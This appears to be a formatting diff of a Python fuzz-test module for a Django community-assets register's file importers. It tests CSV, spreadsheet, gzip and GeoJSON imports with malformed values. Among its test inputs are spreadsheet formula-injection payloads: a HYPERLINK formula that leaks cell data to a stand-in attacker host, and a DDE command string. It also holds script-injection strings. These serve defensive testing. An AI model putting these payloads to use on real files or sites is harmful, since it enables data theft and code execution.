@@ -56,23 +56,91 @@ from assets_register.models import (
 from .factories import AreaFactory, CouncilFactory, PostcodeLocationFactory, square
 
 pytestmark = pytest.mark.django_db
-FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[
-    HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
-TABLES = (Area, PostcodeLocation, Asset, AssetEvent, ListEntry, Nomination, DisposalNotice,
-          BidderRequest)
+FUZZ = settings(
+    max_examples=40,
+    deadline=None,
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+    ],
+)
+TABLES = (
+    Area,
+    PostcodeLocation,
+    Asset,
+    AssetEvent,
+    ListEntry,
+    Nomination,
+    DisposalNotice,
+    BidderRequest,
+)
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
-            "-1+1", "@SUM(1)", "=1+1", "\t=1+1", "\r=1+1")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1)",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+)
 SCRIPT = "<script>alert(1)</script>"
 NASTY = (
-    *FORMULAS, SCRIPT, 'Inn"><img src=x onerror=alert(1)>', "x" * 100_000, "é" * 100_000,
-    "", " ", "-", "n/a", "\x00", "a\x00b", "\x01\x1f\x7f", "\u202eevil", "\ufeff", "\ud800",
-    "😀", "²", "١٢٣", "line\nbreak", 'a "quote"', "comma, here", "tab\there",
-    "NaN", "-inf", "Infinity", "sNaN", "1e999", "1e-999", "0x1A", "1_000", "9" * 20, "9" * 5000,
-    "31/02/2021", "99/99/9999", "29/02/2023", "00/00/0000", "44197", "44197.0", "2958466",
-    "0", "-1", "DH7 XXX", "ZZ99 9ZZ", "GIR 0AA", "dh76lq", "DH7  6LQ", "ＤＨ７ ６ＬＱ",
-    "BFPO 1234", "DH7 6LQ DH7 6LQ", "POINT (0 0)", "POINT (54.816 -1.626)", "(91.5, 181.5)",
-    "POINT (424000.0 547000.0)", "54.816,-1.626",
+    *FORMULAS,
+    SCRIPT,
+    'Inn"><img src=x onerror=alert(1)>',
+    "x" * 100_000,
+    "é" * 100_000,
+    "",
+    " ",
+    "-",
+    "n/a",
+    "\x00",
+    "a\x00b",
+    "\x01\x1f\x7f",
+    "\u202eevil",
+    "\ufeff",
+    "\ud800",
+    "😀",
+    "²",
+    "١٢٣",
+    "line\nbreak",
+    'a "quote"',
+    "comma, here",
+    "tab\there",
+    "NaN",
+    "-inf",
+    "Infinity",
+    "sNaN",
+    "1e999",
+    "1e-999",
+    "0x1A",
+    "1_000",
+    "9" * 20,
+    "9" * 5000,
+    "31/02/2021",
+    "99/99/9999",
+    "29/02/2023",
+    "00/00/0000",
+    "44197",
+    "44197.0",
+    "2958466",
+    "0",
+    "-1",
+    "DH7 XXX",
+    "ZZ99 9ZZ",
+    "GIR 0AA",
+    "dh76lq",
+    "DH7  6LQ",
+    "ＤＨ７ ６ＬＱ",
+    "BFPO 1234",
+    "DH7 6LQ DH7 6LQ",
+    "POINT (0 0)",
+    "POINT (54.816 -1.626)",
+    "(91.5, 181.5)",
+    "POINT (424000.0 547000.0)",
+    "54.816,-1.626",
 )
 ENCODINGS = ("utf-8", "utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16")
 
@@ -87,9 +155,14 @@ def mostly(*good):
 
 # The database ------------------------------------------------------------------------------
 
+
 def fingerprint():
-    return {model.__name__: hashlib.sha256(repr(list(
-        model.objects.order_by("pk").values_list())).encode()).hexdigest() for model in TABLES}
+    return {
+        model.__name__: hashlib.sha256(
+            repr(list(model.objects.order_by("pk").values_list())).encode()
+        ).hexdigest()
+        for model in TABLES
+    }
 
 
 def assert_storable(tables=TABLES):
@@ -97,9 +170,11 @@ def assert_storable(tables=TABLES):
     refuses them, half way through an import or a form."""
     ranges = BaseDatabaseOperations.integer_field_ranges
     for model in tables:
-        fields = [f for f in model._meta.concrete_fields
-                  if isinstance(f, models.CharField | models.TextField)
-                  or f.get_internal_type() in ranges]
+        fields = [
+            f
+            for f in model._meta.concrete_fields
+            if isinstance(f, models.CharField | models.TextField) or f.get_internal_type() in ranges
+        ]
         for row in model.objects.values_list(*(f.name for f in fields)):
             for field, value in zip(fields, row, strict=True):
                 where = f"{model.__name__}.{field.name} = {str(value)[:60]!r}"
@@ -171,8 +246,10 @@ def import_and_check(command, path, *args, mode=""):
         assert fingerprint() == before, "a failed import changed the database"
         return first
     created, updated, unchanged, rejected = first.counts
-    event(f"{'wrote' if created or updated else 'wrote nothing'}, "
-          f"{'some' if rejected else 'no'} rows rejected")
+    event(
+        f"{'wrote' if created or updated else 'wrote nothing'}, "
+        f"{'some' if rejected else 'no'} rows rejected"
+    )
     rejections = REJECTED.findall(first.err)
     assert len(rejections) == rejected, first.err
     for row, field, message in rejections:
@@ -191,6 +268,7 @@ def import_and_check(command, path, *args, mode=""):
 
 
 # Files --------------------------------------------------------------------------------------
+
 
 @st.composite
 def headings(draw, fields, aliases=None):
@@ -300,7 +378,7 @@ def table_files(draw, columns, good_rows, suffixes=(".csv",), aliases=None):
         csv.writer(buffer, lineterminator=ending).writerows([header, *rows])
     data = encoded(buffer.getvalue(), draw(st.sampled_from(ENCODINGS)))
     if suffix.endswith(".gz"):
-        data = gzip.compress(data)[:draw(st.sampled_from((None, None, None, -8, 20)))]
+        data = gzip.compress(data)[: draw(st.sampled_from((None, None, None, -8, 20)))]
     return name, data
 
 
@@ -309,122 +387,277 @@ def cast(**columns):
 
 
 GENERIC = cast(
-    source_ref=("h1", "h2", "h3"), name=("The Red Lion", "Pub " + SCRIPT, *FORMULAS),
-    category=("pub", "library", "Community centre", "PUB"), address=("1 Front Street",),
-    postcode=("DH7 6LQ", "dh76lq", ""), latitude=("54.816", "54.8160001", ""),
-    longitude=("-1.626", ""), uprn=("100012345678",), osm_id=("123456",),
-    ownership=("public", "Community owned", ""), operator=("Durham County Council",),
+    source_ref=("h1", "h2", "h3"),
+    name=("The Red Lion", "Pub " + SCRIPT, *FORMULAS),
+    category=("pub", "library", "Community centre", "PUB"),
+    address=("1 Front Street",),
+    postcode=("DH7 6LQ", "dh76lq", ""),
+    latitude=("54.816", "54.8160001", ""),
+    longitude=("-1.626", ""),
+    uprn=("100012345678",),
+    osm_id=("123456",),
+    ownership=("public", "Community owned", ""),
+    operator=("Durham County Council",),
     opened=("1890", "2019-06", "06/2019", "2012-03-31", "31/03/2012", ""),
     closed=("2019", "2019-06", "31/03/2012", ""),
 )
 GENERIC_ROWS = (
-    {"source_ref": "h1", "name": "Sacriston Hall", "category": "Community centre",
-     "postcode": "DH7 6LQ", "ownership": "community_owned", "opened": "1890"},
-    {"source_ref": "h2", "name": "The Red Lion", "category": "pub", "latitude": "54.816",
-     "longitude": "-1.626", "closed": "2019-06"},
+    {
+        "source_ref": "h1",
+        "name": "Sacriston Hall",
+        "category": "Community centre",
+        "postcode": "DH7 6LQ",
+        "ownership": "community_owned",
+        "opened": "1890",
+    },
+    {
+        "source_ref": "h2",
+        "name": "The Red Lion",
+        "category": "pub",
+        "latitude": "54.816",
+        "longitude": "-1.626",
+        "closed": "2019-06",
+    },
     {"source_ref": "h3", "name": FORMULAS[0], "category": "library", "closed": "31/03/2012"},
 )
 LIBRARIES = cast(
-    authority=("Durham", "Stoke-on-Trent"), name=("Sacriston Library", SCRIPT),
-    address1=("Front Street",), address2=("Sacriston",), address3=("",),
-    postcode=("DH7 6LQ", "ST2 8JE"), closed=("", "2018", "2018.0", "1799", "2999"),
-    opened=("", "2012", "nan", "inf", "1e400"), uprn=("", "100012345678.0"),
+    authority=("Durham", "Stoke-on-Trent"),
+    name=("Sacriston Library", SCRIPT),
+    address1=("Front Street",),
+    address2=("Sacriston",),
+    address3=("",),
+    postcode=("DH7 6LQ", "ST2 8JE"),
+    closed=("", "2018", "2018.0", "1799", "2999"),
+    opened=("", "2012", "nan", "inf", "1e400"),
+    uprn=("", "100012345678.0"),
     operating_organisation=("-", "Friends of the Library"),
-    **{f"operation_{year}": ("LA", "LAU", "CL", "CR", "ICL", "Closed", "Temporary Closure",
-                             "Facility Not Open", "") for year in (16, 19, 21, 22, 23)},
+    **{
+        f"operation_{year}": (
+            "LA",
+            "LAU",
+            "CL",
+            "CR",
+            "ICL",
+            "Closed",
+            "Temporary Closure",
+            "Facility Not Open",
+            "",
+        )
+        for year in (16, 19, 21, 22, 23)
+    },
 )
 LIBRARY_ROWS = (
-    {"authority": "Durham", "name": "Sacriston Library", "address1": "Front Street",
-     "postcode": "DH7 6LQ", "opened": "1960", "operation_16": "LA", "operation_19": "CL",
-     "operation_21": "Closed", "operation_22": "Closed", "operation_23": "LA"},
-    {"authority": "Stoke-on-Trent", "name": "Abbey Hulton", "postcode": "ST2 8JE",
-     "closed": "2018", "operation_16": "LAU", "operation_19": "Closed"},
+    {
+        "authority": "Durham",
+        "name": "Sacriston Library",
+        "address1": "Front Street",
+        "postcode": "DH7 6LQ",
+        "opened": "1960",
+        "operation_16": "LA",
+        "operation_19": "CL",
+        "operation_21": "Closed",
+        "operation_22": "Closed",
+        "operation_23": "LA",
+    },
+    {
+        "authority": "Stoke-on-Trent",
+        "name": "Abbey Hulton",
+        "postcode": "ST2 8JE",
+        "closed": "2018",
+        "operation_16": "LAU",
+        "operation_19": "Closed",
+    },
 )
 OPEN_PUBS = cast(
-    fas_id=("505554", "900001"), name=("Abbey Hotel", *FORMULAS), address=("The Broadway",),
-    postcode=("ME12 2DA", "DH7 6LQ"), easting=("594596",), northing=("174100", "-5527598"),
-    latitude=("51.432473", ""), longitude=("0.798100", ""), local_authority=("Swale",),
+    fas_id=("505554", "900001"),
+    name=("Abbey Hotel", *FORMULAS),
+    address=("The Broadway",),
+    postcode=("ME12 2DA", "DH7 6LQ"),
+    easting=("594596",),
+    northing=("174100", "-5527598"),
+    latitude=("51.432473", ""),
+    longitude=("0.798100", ""),
+    local_authority=("Swale",),
 )
 OPEN_PUB_ROWS = (
-    {"fas_id": "505554", "name": "Abbey Hotel", "address": "The Broadway, Sheerness",
-     "postcode": "ME12 2DA", "latitude": "51.432473", "longitude": "0.798100"},
+    {
+        "fas_id": "505554",
+        "name": "Abbey Hotel",
+        "address": "The Broadway, Sheerness",
+        "postcode": "ME12 2DA",
+        "latitude": "51.432473",
+        "longitude": "0.798100",
+    },
     {"fas_id": "900001", "name": "No Location Arms", "postcode": "DH7 6LQ"},
 )
 OSM_PUBS = cast(
-    name=("The Robin Hood", '"Quoted" Inn', SCRIPT), normalized_name=("The Robin Hood",),
+    name=("The Robin Hood", '"Quoted" Inn', SCRIPT),
+    normalized_name=("The Robin Hood",),
     osm_id=("123456", "777", "12345678901234567890123456789012345"),
-    latitude=("54.8160", ""), longitude=("-1.6260", ""),
+    latitude=("54.8160", ""),
+    longitude=("-1.6260", ""),
 )
 OSM_PUB_ROWS = (
-    {"name": "The Robin Hood", "osm_id": "123456", "latitude": "54.8160",
-     "longitude": "-1.6260"},
+    {"name": "The Robin Hood", "osm_id": "123456", "latitude": "54.8160", "longitude": "-1.6260"},
     {"name": "", "osm_id": "777", "latitude": "54.817", "longitude": "-1.627"},
 )
 POSTCODES = cast(
-    postcode=("DH7 6LQ", "DH7 6LR", "dh76lq"), positional_quality=("10", "60", ""),
-    latitude=("54.816000", ""), longitude=("-1.626000", ""),
-    admin_district_code=("E06000047",), admin_ward_code=("E05016190", ""),
+    postcode=("DH7 6LQ", "DH7 6LR", "dh76lq"),
+    positional_quality=("10", "60", ""),
+    latitude=("54.816000", ""),
+    longitude=("-1.626000", ""),
+    admin_district_code=("E06000047",),
+    admin_ward_code=("E05016190", ""),
 )
 POSTCODE_ROWS = (
-    {"postcode": "DH7 6LQ", "positional_quality": "10", "latitude": "54.816000",
-     "longitude": "-1.626000", "admin_district_code": "E06000047",
-     "admin_ward_code": "E05016190"},
-    {"postcode": "DH7 6LR", "positional_quality": "10", "latitude": "54.8161",
-     "longitude": "-1.6261"},
+    {
+        "postcode": "DH7 6LQ",
+        "positional_quality": "10",
+        "latitude": "54.816000",
+        "longitude": "-1.626000",
+        "admin_district_code": "E06000047",
+        "admin_ward_code": "E05016190",
+    },
+    {
+        "postcode": "DH7 6LR",
+        "positional_quality": "10",
+        "latitude": "54.8161",
+        "longitude": "-1.6261",
+    },
 )
-DEPRIVATION = cast(lsoa11_code=("E01000001", "E01000002", "E01999999"),
-                   IMD_rank=("1200", "0", "-5"), IMD_decile=("1", "10", "11"))
+DEPRIVATION = cast(
+    lsoa11_code=("E01000001", "E01000002", "E01999999"),
+    IMD_rank=("1200", "0", "-5"),
+    IMD_decile=("1", "10", "11"),
+)
 DEPRIVATION_ROWS = (
     {"lsoa11_code": "E01000001", "IMD_rank": "1200", "IMD_decile": "1"},
     {"lsoa11_code": "E01000002", "IMD_rank": "20000", "IMD_decile": "7"},
     {"lsoa11_code": "E01999999", "IMD_rank": "29199", "IMD_decile": "9"},
 )
-ACV_DATES = ("2020-11-02", "02/11/2020", "3 March 2021", "28-Apr-21", "3rd March 2021",
-             "Wednesday 3 March 2021", "March 2021", "2021", "44197", "2021-03-03T10:00:00",
-             "2099-01-01", "1999-01-01", "")
+ACV_DATES = (
+    "2020-11-02",
+    "02/11/2020",
+    "3 March 2021",
+    "28-Apr-21",
+    "3rd March 2021",
+    "Wednesday 3 March 2021",
+    "March 2021",
+    "2021",
+    "44197",
+    "2021-03-03T10:00:00",
+    "2099-01-01",
+    "1999-01-01",
+    "",
+)
 ACV = cast(
-    reference=("A-1", "A-2", "a-1", "R" * 41), name=(
-        "The Robin Hood Inn", "Sacriston Village Hall, Front Street, Sacriston DH7 6LQ",
-        SCRIPT, *FORMULAS),
+    reference=("A-1", "A-2", "a-1", "R" * 41),
+    name=(
+        "The Robin Hood Inn",
+        "Sacriston Village Hall, Front Street, Sacriston DH7 6LQ",
+        SCRIPT,
+        *FORMULAS,
+    ),
     **{"address-text": ("1 Front Street, Sacriston, DH7 6LQ", "Front Street")},
-    postcode=("DH7 6LQ",), point=("POINT (-1.626 54.816)", "(54.816, -1.626)",
-                                   "POINT (54.816 -1.626)", "POINT (-1.63 54.82)"),
-    latitude=("54.816",), longitude=("-1.626",),
-    decision=("Listed", "Unsuccessful", "Withdrawn", "Removed - sold", "Removed on appeal",
-              "Expired", "Pending", "successful"),
-    **{field: ACV_DATES for field in (
-        "nomination-date", "decision-date", "expiry-date", "notification-to-sell-date",
-        "protected-period-start-date", "end-date")},
-    **{field: ("Friends of the Robin Hood", SCRIPT, *FORMULAS) for field in (
-        "nominating-group", "interested-group", "notes", "reason-unsuccessful",
-        "description")},
+    postcode=("DH7 6LQ",),
+    point=(
+        "POINT (-1.626 54.816)",
+        "(54.816, -1.626)",
+        "POINT (54.816 -1.626)",
+        "POINT (-1.63 54.82)",
+    ),
+    latitude=("54.816",),
+    longitude=("-1.626",),
+    decision=(
+        "Listed",
+        "Unsuccessful",
+        "Withdrawn",
+        "Removed - sold",
+        "Removed on appeal",
+        "Expired",
+        "Pending",
+        "successful",
+    ),
+    **{
+        field: ACV_DATES
+        for field in (
+            "nomination-date",
+            "decision-date",
+            "expiry-date",
+            "notification-to-sell-date",
+            "protected-period-start-date",
+            "end-date",
+        )
+    },
+    **{
+        field: ("Friends of the Robin Hood", SCRIPT, *FORMULAS)
+        for field in (
+            "nominating-group",
+            "interested-group",
+            "notes",
+            "reason-unsuccessful",
+            "description",
+        )
+    },
 )
 ACV_ROWS = (
-    {"reference": "A-1", "name": "The Robin Hood Inn", "point": "POINT (-1.626 54.816)",
-     "address-text": "1 Front Street, Sacriston, DH7 6LQ", "nomination-date": "2020-11-02",
-     "nominating-group": "Friends of the Robin Hood", "decision": "Listed",
-     "decision-date": "2020-12-14", "notification-to-sell-date": "2023-05-01",
-     "interested-group": "Sacriston Community Pub Ltd"},
-    {"reference": "A-2", "name": "Sacriston Library", "decision": "successful",
-     "decision-date": "03/03/2021", "postcode": "DH7 6LQ"},
-    {"reference": "A-3", "name": "Fulforth Centre", "decision": "Unsuccessful",
-     "nomination-date": "4 January 2021", "decision-date": "26-Feb-21",
-     "notes": "The use is ancillary to the school."},
-    {"reference": "A-4", "name": "The Old Chapel, Plawsworth Road, Sacriston DH7 6LQ",
-     "decision": "Removed - sold", "decision-date": "2015-06-01",
-     "notification-to-sell-date": "2017-03-01", "end-date": "2018-02-01"},
-    {"reference": "A-5", "name": "Recreation Ground", "decision": "Withdrawn",
-     "nomination-date": "2022-01-10", "decision-date": "2022-02-01"},
+    {
+        "reference": "A-1",
+        "name": "The Robin Hood Inn",
+        "point": "POINT (-1.626 54.816)",
+        "address-text": "1 Front Street, Sacriston, DH7 6LQ",
+        "nomination-date": "2020-11-02",
+        "nominating-group": "Friends of the Robin Hood",
+        "decision": "Listed",
+        "decision-date": "2020-12-14",
+        "notification-to-sell-date": "2023-05-01",
+        "interested-group": "Sacriston Community Pub Ltd",
+    },
+    {
+        "reference": "A-2",
+        "name": "Sacriston Library",
+        "decision": "successful",
+        "decision-date": "03/03/2021",
+        "postcode": "DH7 6LQ",
+    },
+    {
+        "reference": "A-3",
+        "name": "Fulforth Centre",
+        "decision": "Unsuccessful",
+        "nomination-date": "4 January 2021",
+        "decision-date": "26-Feb-21",
+        "notes": "The use is ancillary to the school.",
+    },
+    {
+        "reference": "A-4",
+        "name": "The Old Chapel, Plawsworth Road, Sacriston DH7 6LQ",
+        "decision": "Removed - sold",
+        "decision-date": "2015-06-01",
+        "notification-to-sell-date": "2017-03-01",
+        "end-date": "2018-02-01",
+    },
+    {
+        "reference": "A-5",
+        "name": "Recreation Ground",
+        "decision": "Withdrawn",
+        "nomination-date": "2022-01-10",
+        "decision-date": "2022-02-01",
+    },
 )
 
 
 @pytest.fixture
 def areas(db):
     """Durham with a ward, two LSOAs and a postcode, for imports to locate and link to."""
-    council = CouncilFactory(gss_code="E06000047", name="County Durham",
-                             boundary=square(-2.0, 54.5, -1.0, 55.0))
-    AreaFactory(gss_code="E05009076", name="Sacriston", parent=council,
-                boundary=square(-1.66, 54.80, -1.60, 54.83))
+    council = CouncilFactory(
+        gss_code="E06000047", name="County Durham", boundary=square(-2.0, 54.5, -1.0, 55.0)
+    )
+    AreaFactory(
+        gss_code="E05009076",
+        name="Sacriston",
+        parent=council,
+        boundary=square(-1.66, 54.80, -1.60, 54.83),
+    )
     for code in ("E01000001", "E01000002"):
         AreaFactory(gss_code=code, kind=AreaKind.LSOA, parent=council)
     PostcodeLocationFactory(postcode="DH7 6LQ")
@@ -436,23 +669,32 @@ MODES = st.sampled_from(("", "", "strict", "dry-run"))
 
 # Assets ----------------------------------------------------------------------------------
 
+
 @FUZZ
 @given(file=table_files(GENERIC, GENERIC_ROWS, suffixes=(".csv", ".xlsx")), mode=MODES)
-@example(file=("fuzz.csv", b"source_ref,name,category,latitude,longitude\nh1,X,pub,NaN,NaN\n"),
-         mode="")
+@example(
+    file=("fuzz.csv", b"source_ref,name,category,latitude,longitude\nh1,X,pub,NaN,NaN\n"), mode=""
+)
 @example(file=("fuzz.xlsx", b"PK\x03\x04 not really a zip"), mode="")
 @example(file=("fuzz.xlsx", broken_zip(xlsx(["source_ref"], []), 0, b"<x")), mode="")
 @example(file=("fuzz.xlsx", broken_zip(xlsx(["source_ref"], []), 8, None)), mode="")
 def test_generic_csv(areas, file, mode):
     with rolled_back(), written(file) as path:
-        import_and_check("import_assets", path, "--format", "generic", "--source", "fuzz",
-                         mode=mode)
+        import_and_check(
+            "import_assets", path, "--format", "generic", "--source", "fuzz", mode=mode
+        )
 
 
 @FUZZ
 @given(file=table_files(LIBRARIES, LIBRARY_ROWS), mode=MODES)
-@example(file=("fuzz.csv", b"authority,name,address1,postcode,closed,opened\n"
-                           b"Durham,Sacriston,Front Street,DH7 6LQ,,inf\n"), mode="")
+@example(
+    file=(
+        "fuzz.csv",
+        b"authority,name,address1,postcode,closed,opened\n"
+        b"Durham,Sacriston,Front Street,DH7 6LQ,,inf\n",
+    ),
+    mode="",
+)
 def test_libraries(areas, file, mode):
     with rolled_back(), written(file) as path:
         import_and_check("import_assets", path, "--format", "libraries", mode=mode)
@@ -460,8 +702,15 @@ def test_libraries(areas, file, mode):
 
 @FUZZ
 @given(file=table_files(OPEN_PUBS, OPEN_PUB_ROWS), mode=MODES)
-@example(file=("fuzz.csv", b"fas_id,name,address,postcode,latitude,longitude\n"
-                           + b"9" * 150 + b",Inn,High Street,DH7 6LQ,,\n"), mode="")
+@example(
+    file=(
+        "fuzz.csv",
+        b"fas_id,name,address,postcode,latitude,longitude\n"
+        + b"9" * 150
+        + b",Inn,High Street,DH7 6LQ,,\n",
+    ),
+    mode="",
+)
 def test_open_pubs(areas, file, mode):
     with rolled_back(), written(file) as path:
         import_and_check("import_assets", path, "--format", "open-pubs", mode=mode)
@@ -469,8 +718,14 @@ def test_open_pubs(areas, file, mode):
 
 @FUZZ
 @given(file=table_files(OSM_PUBS, OSM_PUB_ROWS, suffixes=(".tsv",)), mode=MODES)
-@example(file=("fuzz.tsv", b"name\tosm_id\tlatitude\tlongitude\n"
-                           b"Inn\t12345678901234567890123456789012345\t54.8\t-1.6\n"), mode="")
+@example(
+    file=(
+        "fuzz.tsv",
+        b"name\tosm_id\tlatitude\tlongitude\n"
+        b"Inn\t12345678901234567890123456789012345\t54.8\t-1.6\n",
+    ),
+    mode="",
+)
 def test_osm_pubs(areas, file, mode):
     with rolled_back(), written(file) as path:
         import_and_check("import_assets", path, "--format", "osm-pubs", mode=mode)
@@ -478,16 +733,24 @@ def test_osm_pubs(areas, file, mode):
 
 # Areas and the tables about them --------------------------------------------------------
 
+
 @FUZZ
 @given(file=table_files(POSTCODES, POSTCODE_ROWS, suffixes=(".csv", ".csv.gz")), mode=MODES)
-@example(file=("fuzz.csv", "postcode,positional_quality,latitude,longitude\n"
-                           "DH7 6LR,²,54.8,-1.6\n".encode()), mode="")
+@example(
+    file=(
+        "fuzz.csv",
+        "postcode,positional_quality,latitude,longitude\nDH7 6LR,²,54.8,-1.6\n".encode(),
+    ),
+    mode="",
+)
 @example(file=("fuzz.csv", b"postcode,latitude,longitude\nDH7 6LR,NaN,-1.6\n"), mode="")
 @example(file=("fuzz.csv.gz", gzip.compress(b"postcode,latitude,longitude\n")[:-8]), mode="")
 @example(file=("fuzz.csv.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 6 + b"garbage"), mode="")
 @example(file=("fuzz.csv", b"postcode,latitude,longitude\nDH7 6LR\x00,54.8,-1.6\n"), mode="")
-@example(file=("fuzz.csv", b"postcode,positional_quality,latitude,longitude\n"
-                           b"DH7 6LR,99999,54.8,-1.6\n"), mode="")
+@example(
+    file=("fuzz.csv", b"postcode,positional_quality,latitude,longitude\nDH7 6LR,99999,54.8,-1.6\n"),
+    mode="",
+)
 def test_postcodes(areas, file, mode):
     with rolled_back(), written(file) as path:
         import_and_check("import_postcodes", path, mode=mode)
@@ -495,40 +758,67 @@ def test_postcodes(areas, file, mode):
 
 @FUZZ
 @given(file=table_files(DEPRIVATION, DEPRIVATION_ROWS), mode=MODES)
-@example(file=("fuzz.csv", b"lsoa11_code,IMD_rank,IMD_decile\nE01000001,99999999999999999999,1\n"),
-         mode="")
+@example(
+    file=("fuzz.csv", b"lsoa11_code,IMD_rank,IMD_decile\nE01000001,99999999999999999999,1\n"),
+    mode="",
+)
 def test_deprivation(areas, file, mode):
     with rolled_back(), written(file) as path:
         import_and_check("import_deprivation", path, mode=mode)
 
 
-COORDINATES = st.sampled_from((-1.66, -1.6, 54.8, 54.83, 0.0, 181.0, -91.0, float("nan"),
-                               float("inf"), 1e308, 424000.0))
+COORDINATES = st.sampled_from(
+    (-1.66, -1.6, 54.8, 54.83, 0.0, 181.0, -91.0, float("nan"), float("inf"), 1e308, 424000.0)
+)
 BAD_GEOMETRIES = (
-    None, {}, "POLYGON ((0 0, 1 0, 1 1, 0 0))", 5, [], {"type": "Polygon"},
-    {"type": "Point", "coordinates": [-1.6, 54.8]}, {"type": "Polygon", "coordinates": "x"},
+    None,
+    {},
+    "POLYGON ((0 0, 1 0, 1 1, 0 0))",
+    5,
+    [],
+    {"type": "Polygon"},
+    {"type": "Point", "coordinates": [-1.6, 54.8]},
+    {"type": "Polygon", "coordinates": "x"},
     {"type": "Polygon", "coordinates": [[[-1.6, 54.8], [-1.5, 54.9]]]},
-    {"type": "Polygon", "coordinates": [[[-1.6, 54.8], [-1.5, 54.9], [-1.5, 54.8],
-                                         [-1.6, 54.9], [-1.6, 54.8]]]},  # a bow tie
-    {"type": "Polygon", "coordinates": [[[None, 54.8], [-1.5, 54.8], [-1.5, 54.9],
-                                         [None, 54.8]]]},
-    {"type": "Polygon", "coordinates": [[["a", 54.8], [-1.5, 54.8], [-1.5, 54.9],
-                                         ["a", 54.8]]]},
-    {"type": "Polygon", "coordinates": [[[-1.6, 54.8, 1, 2, 3], [-1.5, 54.8], [-1.5, 54.9],
-                                         [-1.6, 54.8]]]},
-    {"type": "Nonsense", "coordinates": []}, {"type": "GeometryCollection"},
+    {
+        "type": "Polygon",
+        "coordinates": [[[-1.6, 54.8], [-1.5, 54.9], [-1.5, 54.8], [-1.6, 54.9], [-1.6, 54.8]]],
+    },  # a bow tie
+    {"type": "Polygon", "coordinates": [[[None, 54.8], [-1.5, 54.8], [-1.5, 54.9], [None, 54.8]]]},
+    {"type": "Polygon", "coordinates": [[["a", 54.8], [-1.5, 54.8], [-1.5, 54.9], ["a", 54.8]]]},
+    {
+        "type": "Polygon",
+        "coordinates": [[[-1.6, 54.8, 1, 2, 3], [-1.5, 54.8], [-1.5, 54.9], [-1.6, 54.8]]],
+    },
+    {"type": "Nonsense", "coordinates": []},
+    {"type": "GeometryCollection"},
     {"type": "GeometryCollection", "geometries": [1]},
     {"type": "MultiPolygon", "coordinates": [[[[-1.6, 54.8], [-1.5, 54.8]]]]},
 )
 GEOMETRIES = st.one_of(
-    st.just(square(-1.66, 54.80, -1.60, 54.83)), st.just(square(-1.70, 54.75, -1.66, 54.80)),
+    st.just(square(-1.66, 54.80, -1.60, 54.83)),
+    st.just(square(-1.70, 54.75, -1.66, 54.80)),
     st.builds(square, COORDINATES, COORDINATES, COORDINATES, COORDINATES),
     st.sampled_from(BAD_GEOMETRIES),
 )
-NOT_FEATURES = (None, "Feature", 5, [], {}, {"type": "Feature"},
-                {"type": "Feature", "properties": [], "geometry": None})
-BAD_PROPERTIES = (None, [], "properties", 5, {}, {"code": None, "name": None},
-                  {"code": ["E05000001"], "name": {"a": 1}})
+NOT_FEATURES = (
+    None,
+    "Feature",
+    5,
+    [],
+    {},
+    {"type": "Feature"},
+    {"type": "Feature", "properties": [], "geometry": None},
+)
+BAD_PROPERTIES = (
+    None,
+    [],
+    "properties",
+    5,
+    {},
+    {"code": None, "name": None},
+    {"code": ["E05000001"], "name": {"a": 1}},
+)
 
 
 @st.composite
@@ -541,23 +831,30 @@ def feature_collections(draw):
             features.append(draw(st.sampled_from(NOT_FEATURES)))
             continue
         properties = {
-            code_key: draw(st.one_of(mostly("E05000001", "E05000002", "E050000012345"),
-                                     st.none(), st.integers())),
+            code_key: draw(
+                st.one_of(
+                    mostly("E05000001", "E05000002", "E050000012345"), st.none(), st.integers()
+                )
+            ),
             name_key: draw(st.one_of(mostly("West Ward", SCRIPT, *FORMULAS), st.none())),
         }
         if draw(st.booleans()):
             properties["LAD_CD"] = draw(mostly("E06000047", "E06999999"))
         if draw(st.integers(0, 7)) == 0:
             properties = draw(st.sampled_from(BAD_PROPERTIES))
-        features.append({"type": "Feature", "properties": properties,
-                         "geometry": draw(GEOMETRIES)})
+        features.append({"type": "Feature", "properties": properties, "geometry": draw(GEOMETRIES)})
     return {"type": "FeatureCollection", "features": features}
 
 
 DOCUMENTS = st.one_of(
-    feature_collections(), feature_collections(),
-    st.fixed_dictionaries({"type": st.just("FeatureCollection"), "features": st.sampled_from(
-        (None, "features", 5, {"a": 1}, True, [[]]))}),
+    feature_collections(),
+    feature_collections(),
+    st.fixed_dictionaries(
+        {
+            "type": st.just("FeatureCollection"),
+            "features": st.sampled_from((None, "features", 5, {"a": 1}, True, [[]])),
+        }
+    ),
     st.sampled_from(([], "FeatureCollection", None, 5, {"type": "Feature"})),
 )
 
@@ -572,44 +869,134 @@ def geojson_files(draw):
 
 
 @FUZZ
-@given(file=geojson_files(), kind=st.sampled_from(("council", "ward", "lsoa")),
-       valid_from=st.sampled_from(("", "", "2013-05-02", "2013-02-30", "soon", "99999-01-01")),
-       mode=MODES)
-@example(file=("fuzz.geojson", b'{"type": "FeatureCollection", "features": "abc"}'),
-         kind="ward", valid_from="", mode="")
-@example(file=("fuzz.geojson", b'{"type": "FeatureCollection", "features": [1, 2]}'),
-         kind="ward", valid_from="", mode="")
-@example(file=("fuzz.geojson", json.dumps({"type": "FeatureCollection", "features": [{
-    "type": "Feature", "properties": {"WD13CD": "E05000001", "WD13NM": "West"},
-    "geometry": {"type": "Polygon"}}]}).encode()), kind="ward", valid_from="", mode="")
-@example(file=("fuzz.geojson", json.dumps({"type": "FeatureCollection", "features": [{
-    "type": "Feature", "properties": {"WD13CD": "E05000001", "WD13NM": "West"},
-    "geometry": {"type": "Nonsense", "coordinates": [1]}}]}).encode()),
-    kind="ward", valid_from="", mode="")
-@example(file=("fuzz.geojson", json.dumps({"type": "FeatureCollection", "features": [{
-    "type": "Feature", "properties": {"LAD24CD": "E06000047", "LAD22CD": "E06000047",
-                                      "LAD24NM": "\ud800\x00"},
-    "geometry": square(-1.66, 54.80, -1.60, 54.83)}]}).encode()),
-    kind="council", valid_from="", mode="")
